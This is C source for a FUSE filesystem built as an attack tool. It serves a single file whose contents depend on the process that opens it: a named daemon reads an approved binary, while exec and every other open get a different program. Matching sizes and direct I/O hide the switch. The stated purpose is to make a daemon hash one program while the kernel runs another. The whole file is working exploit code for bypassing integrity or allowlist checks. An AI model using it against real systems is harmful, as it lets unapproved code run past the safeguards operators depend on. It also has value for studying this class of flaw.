// fusefs: a FUSE filesystem that lies to the daemon.
//
//	fusefs <shown> <run> <daemon-pid> <mountpoint> [fuse options]
//
// It holds one file, /tool, whose bytes depend on who opens it: an open by
// any thread of <daemon-pid> reads <shown> (the registered binary), with
// direct I/O so the page cache cannot answer for it; every other open,
// exec(2) among them, reads <run> (another program). Both are padded to the
// larger size, so the file's attributes never change. A daemon that trusts
// what it reads on FUSE hashes one program while the kernel runs another.
#define FUSE_USE_VERSION 31
#include <errno.h>
#include <fuse.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static char *shown, *run;
static size_t size;
static int daemon_pid;

static char *slurp(const char *path, size_t *n) {
	FILE *f = fopen(path, "rb");
	if (!f) { perror(path); exit(1); }
	fseek(f, 0, SEEK_END);
	*n = ftell(f);
	rewind(f);
	char *b = malloc(*n);
	if (fread(b, 1, *n, f) != *n) { perror(path); exit(1); }
	fclose(f);
	return b;
}

// tgid returns the process a thread belongs to: FUSE names the thread.
static int tgid(int tid) {
	char p[64], line[256];
	snprintf(p, sizeof p, "/proc/%d/status", tid);
	FILE *f = fopen(p, "r");
	if (!f) return -1;
	int t = -1;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "Tgid: %d", &t) == 1) break;
	fclose(f);
	return t;
}

static int fs_getattr(const char *path, struct stat *st, struct fuse_file_info *fi) {
	(void)fi;
	memset(st, 0, sizeof *st);
	if (strcmp(path, "/") == 0) {
		st->st_mode = S_IFDIR | 0755;
		st->st_nlink = 2;
		return 0;
	}
	if (strcmp(path, "/tool") != 0) return -ENOENT;
	st->st_mode = S_IFREG | 0755;
	st->st_nlink = 1;
	st->st_size = size;
	return 0;
}

static int fs_readdir(const char *path, void *buf, fuse_fill_dir_t fill, off_t off,
                      struct fuse_file_info *fi, enum fuse_readdir_flags flags) {
	(void)off; (void)fi; (void)flags;
	if (strcmp(path, "/") != 0) return -ENOENT;
	fill(buf, ".", NULL, 0, 0);
	fill(buf, "..", NULL, 0, 0);
	fill(buf, "tool", NULL, 0, 0);
	return 0;
}

static int fs_open(const char *path, struct fuse_file_info *fi) {
	if (strcmp(path, "/tool") != 0) return -ENOENT;
	int by_daemon = tgid(fuse_get_context()->pid) == daemon_pid;
	fi->fh = by_daemon;
	fi->direct_io = by_daemon;
	return 0;
}

static int fs_read(const char *path, char *buf, size_t n, off_t off, struct fuse_file_info *fi) {
	(void)path;
	if ((size_t)off >= size) return 0;
	if (n > size - off) n = size - off;
	memcpy(buf, (fi->fh ? shown : run) + off, n);
	return n;
}

static const struct fuse_operations ops = {
	.getattr = fs_getattr, .readdir = fs_readdir, .open = fs_open, .read = fs_read,
};

int main(int argc, char **argv) {
	if (argc < 5) {
		fprintf(stderr, "usage: fusefs <shown> <run> <daemon-pid> <mountpoint> [fuse options]\n");
		return 2;
	}
	size_t sn, rn;
	char *s = slurp(argv[1], &sn), *r = slurp(argv[2], &rn);
	size = sn > rn ? sn : rn;
	shown = calloc(1, size);
	run = calloc(1, size);
	memcpy(shown, s, sn);
	memcpy(run, r, rn);
	daemon_pid = atoi(argv[3]);
	// fuse_main takes the program name, the mount point and its options.
	argv[3] = argv[0];
	return fuse_main(argc - 3, argv + 3, &ops, NULL);
}
